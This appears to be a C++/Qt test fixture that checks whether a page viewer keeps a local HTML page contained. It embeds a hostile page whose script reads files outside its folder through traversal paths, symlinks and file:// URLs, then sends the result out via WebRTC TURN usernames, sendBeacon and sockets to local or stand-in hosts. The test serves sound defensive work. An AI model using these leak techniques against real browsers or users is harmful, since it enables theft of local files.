#include "leak_site.h"

#include <QDir>
#include <QFile>
#include <QImage>
#include <QNetworkDatagram>
#include <QTcpSocket>
#include <QTest>

#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#include "page_probe.h"
#include "private_network.h"

namespace discstart {

namespace {

// {T}: the TCP port, {U}: the UDP port, {OUT}: the outside folder's absolute path.
constexpr const char* Page = R"(<html><head><title>leak</title>
<link rel="preconnect" href="http://127.0.0.1:{T}/">
<link rel="dns-prefetch" href="//prefetch.leak.example/">
<link rel="prefetch" href="http://127.0.0.1:{T}/prefetch">
<link rel="stylesheet" href="http://127.0.0.1:{T}/style.css">
<link rel="stylesheet" href="../outside/secret.css">
<script src="http://127.0.0.1:{T}/code.js"></script>
<script src="../outside/secret.js"></script>
</head><body>
<img id="cover" src="cover.png">
<img src="http://127.0.0.1:{T}/remote.png"> <img src="//img.leak.example/remote.png">
<img class="out" src="../outside/secret.png"> <img class="out" src="{OUT}/secret.png">
<img class="out" src="file://{OUT}/secret.png"> <img class="out" src="link.png">
<img class="out" src="sub/secret.png"> <img class="out" src="inside/../../outside/secret.png">
<img class="out" src=".private/secret.png"> <img class="out" src="../disc2/secret.png">
<img class="out" src="hidden.png"> <img class="out" src="fifo.png">
<iframe src="http://127.0.0.1:{T}/frame.htm"></iframe> <iframe src="../outside/secret.htm"></iframe>
<p><a id="web" href="http://127.0.0.1:{T}/link.htm">web</a> <a id="out" href="file://{OUT}/secret.htm">out</a>
<a href="../outside/secret.htm">up</a></p>
<script>
const got = {};
function note(key, value) { got[key] = String(value).slice(0, 40); }
function readSync(key, url) {
  try { const x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); note(key, x.responseText); }
  catch (e) { note(key, 'refused'); }
}
readSync('inside', 'inside.txt');
readSync('absolute', 'file://{OUT}/secret.txt');
readSync('up', '../outside/secret.txt');
readSync('link', 'link.txt');
readSync('sub', 'sub/secret.txt');
readSync('hidden', '.private/secret.txt');
readSync('sibling', '../disc2/secret.txt');
const stolen = got.absolute || 'nothing';
for (const [key, url] of [['fetch', 'file://{OUT}/secret.txt'], ['fetchUp', '../outside/secret.txt'],
                          ['fetchWeb', 'http://127.0.0.1:{T}/fetch']]) {
  fetch(url).then(r => r.text()).then(t => note(key, t)).catch(() => note(key, 'refused'));
}
const servers = [{urls: 'stun:127.0.0.1:{U}'}, {urls: 'stun:stun.leak.example:{U}'},
  {urls: 'turn:127.0.0.1:{U}?transport=udp', username: stolen, credential: 'x'},
  {urls: 'turn:127.0.0.1:{T}?transport=tcp', username: stolen, credential: 'x'},
  {urls: 'turn:turn.leak.example:{T}?transport=tcp', username: stolen, credential: 'x'}];
function offer(Connection, key) {
  try {
    const pc = new Connection({iceServers: servers, iceCandidatePoolSize: 1});
    pc.createDataChannel('out');
    pc.onicecandidate = e => { if (e.candidate) note(key + 'Candidate', e.candidate.candidate); };
    pc.createOffer().then(o => pc.setLocalDescription(o));
  } catch (e) { note(key, e); }
}
offer(window.RTCPeerConnection, 'rtc');
// A fresh frame has constructors of its own, whatever was done to this window's.
const blank = document.createElement('iframe');
document.body.appendChild(blank);
offer(blank.contentWindow.RTCPeerConnection, 'frameRtc');
try { new WebTransport('https://127.0.0.1:{U}/').ready.catch(() => {}); } catch (e) {}
try { new WebSocket('ws://127.0.0.1:{T}/socket'); } catch (e) {}
try { new EventSource('http://127.0.0.1:{T}/events'); } catch (e) {}
try { navigator.sendBeacon('http://127.0.0.1:{T}/beacon', stolen); } catch (e) {}
setTimeout(() => {
  document.getElementById('web').click();
  document.getElementById('out').click();
}, 500);
setTimeout(() => {
  note('outsideImages', Array.from(document.querySelectorAll('img.out')).filter(i => i.naturalWidth > 0).length);
  document.title = 'done ' + JSON.stringify(got); }, 4000);
</script></body></html>)";

}  // namespace

LeakSite::LeakSite() {
    const QString disc = dir_.filePath(QStringLiteral("disc"));
    const QString outside = outsidePath();
    QDir().mkpath(disc + QStringLiteral("/inside"));
    QDir().mkpath(outside);
    QImage picture(40, 30, QImage::Format_RGB32);
    picture.fill(Qt::red);
    picture.save(disc + QStringLiteral("/cover.png"), "PNG");
    picture.save(outside + QStringLiteral("/secret.png"), "PNG");
    write(disc + QStringLiteral("/inside.txt"), "inside");
    for (const char* name : {"secret.txt", "secret.css", "secret.js", "secret.htm"})
        write(outside + QLatin1Char('/') + QLatin1String(name), "secret");
    QFile::link(outside + QStringLiteral("/secret.png"), disc + QStringLiteral("/link.png"));
    QFile::link(outside + QStringLiteral("/secret.txt"), disc + QStringLiteral("/link.txt"));
    QFile::link(outside, disc + QStringLiteral("/sub"));
    // Beside the folder, one sharing its name as a prefix; inside it, a hidden folder, a plain
    // name linked into it, and a FIFO.
    const QString sibling = dir_.filePath(QStringLiteral("disc2"));
    const QString hidden = disc + QStringLiteral("/.private");
    for (const QString& folder : {sibling, hidden}) {
        QDir().mkpath(folder);
        picture.save(folder + QStringLiteral("/secret.png"), "PNG");
        write(folder + QStringLiteral("/secret.txt"), "secret");
    }
    QFile::link(hidden + QStringLiteral("/secret.png"), disc + QStringLiteral("/hidden.png"));
    ::mkfifo(QFile::encodeName(disc + QStringLiteral("/fifo.png")).constData(), 0600);

    udp_.bind(QHostAddress::LocalHost, 0);
    QObject::connect(&udp_, &QUdpSocket::readyRead, [this] {
        while (udp_.hasPendingDatagrams()) {
            ++datagrams_;
            received_ += udp_.receiveDatagram().data().left(64) + '\n';
        }
    });
    tcp_.listen(QHostAddress::LocalHost, 0);
    QObject::connect(&tcp_, &QTcpServer::newConnection, [this] {
        while (QTcpSocket* socket = tcp_.nextPendingConnection()) {
            ++connections_;
            QObject::connect(socket, &QTcpSocket::readyRead,
                             [this, socket] { received_ += socket->readAll(); });
            QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
        }
    });

    QString page = QString::fromUtf8(Page);
    page.replace(QStringLiteral("{T}"), QString::number(tcp_.serverPort()));
    page.replace(QStringLiteral("{U}"), QString::number(udp_.localPort()));
    page.replace(QStringLiteral("{OUT}"), outside);
    write(pagePath(), page.toUtf8());

    watch_ = ::inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
    for (const QString& folder : {outside, sibling, hidden})
        ::inotify_add_watch(watch_, QFile::encodeName(folder).constData(), IN_OPEN | IN_ACCESS);
    packetsAtStart_ = PacketsSent();
}

LeakSite::~LeakSite() {
    if (watch_ >= 0) ::close(watch_);
}

QString LeakSite::pagePath() const {
    return dir_.filePath(QStringLiteral("disc/leak.htm"));
}

QString LeakSite::outsidePath() const {
    return dir_.filePath(QStringLiteral("outside"));
}

qint64 LeakSite::packetsSent() const {
    if (!InPrivateNetwork()) return -1;
    return PacketsSent() - packetsAtStart_;
}

int LeakSite::outsideReads() {
    alignas(inotify_event) char buffer[4096];
    for (;;) {
        const ssize_t length = ::read(watch_, buffer, sizeof buffer);
        if (length <= 0) break;
        for (ssize_t at = 0; at < length;) {
            const auto* event = reinterpret_cast<const inotify_event*>(buffer + at);
            ++outsideReads_;
            at += ssize_t(sizeof(inotify_event)) + event->len;
        }
    }
    return outsideReads_;
}

void LeakSite::write(const QString& path, const QByteArray& bytes) const {
    QFile file(path);
    if (file.open(QIODevice::WriteOnly)) file.write(bytes);
}

// Waits until the page's scripts are done; an engine without scripts gets a moment instead.
QString WaitForLeakPage(PageView& view) {
    if (!EngineRunsScripts()) {
        QTest::qWait(1000);
        return {};
    }
    QString title;
    (void)QTest::qWaitFor(
        [&] {
            title = PageTitle(view);
            return title.startsWith(QLatin1String("done"));
        },
        20000);
    QTest::qWait(1000);  // what was started late has had its time too
    return title;
}

ConnectionCounter::ConnectionCounter() {
    server_.listen(QHostAddress::LocalHost, 0);
    QObject::connect(&server_, &QTcpServer::newConnection, [this] {
        while (QTcpSocket* socket = server_.nextPendingConnection()) {
            ++count_;
            socket->close();
            socket->deleteLater();
        }
    });
}

QString ConnectionCounter::url(const QString& name) const {
    return QStringLiteral("http://127.0.0.1:%1/%2").arg(port()).arg(name);
}

int ConnectionCounter::connections() {
    QCoreApplication::processEvents();
    return count_;
}

}  // namespace discstart
